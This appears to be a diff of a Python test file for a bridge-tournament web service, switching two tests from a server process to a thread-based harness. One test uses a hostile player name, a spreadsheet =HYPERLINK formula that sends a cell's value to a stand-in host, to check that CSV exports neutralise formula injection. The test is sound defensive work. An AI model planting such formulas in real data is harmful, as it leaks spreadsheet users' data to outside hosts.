@@ -16,7 +16,7 @@ from pathlib import Path
 
 import httpx
 import pytest
-from service_harness import ServerProcess, raw_request
+from service_harness import ServerProcess, ServiceThread, raw_request
 
 from results import cell_text
 from service.sim.dealing import deal_for
@@ -225,7 +225,7 @@ def test_a_body_read_two_ways_is_refused_and_the_journal_keeps_acknowledging(tmp
 def test_a_seat_token_has_one_spelling(tmp_path: Path) -> None:
     """A token's round and generation are ASCII digits written one way: '²' (a digit to ``str.isdigit``, not
     to ``int``) was a 500, and '00', '٠' (Arabic-Indic zero) or '０' (full width) were the same credential."""
-    with ServerProcess(tmp_path, {"tables": [{"id": "1"}]}) as srv, srv.seat_client("1", "N") as north:
+    with ServiceThread(tmp_path, {"tables": [{"id": "1"}]}) as srv, srv.seat_client("1", "N") as north:
         north.get("/api/whoami")
         token = north.auth.token                                              # type: ignore[attr-defined]
         kind, table, seat, rnd, mark, gen, mac = token.split(".")
@@ -265,7 +265,7 @@ def test_names_in_the_csv_exports_cannot_become_formulas(tmp_path: Path) -> None
     """A name a seat enters is written to the ranking CSV: one a spreadsheet would run (``=HYPERLINK``, ``@``,
     ``+``, ``-``) starts with ``'``; ordinary names and negative scores read back as they were."""
     hostile = {"N": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "S": "@SUM(1+1)"}
-    with ServerProcess(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}) as srv, \
+    with ServiceThread(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}) as srv, \
             srv.client(srv.token) as d:
         assert d.post("/api/event", json=MITCHELL_3).status_code == 200
         assert d.post("/api/tables/1/players", json=hostile).status_code == 200
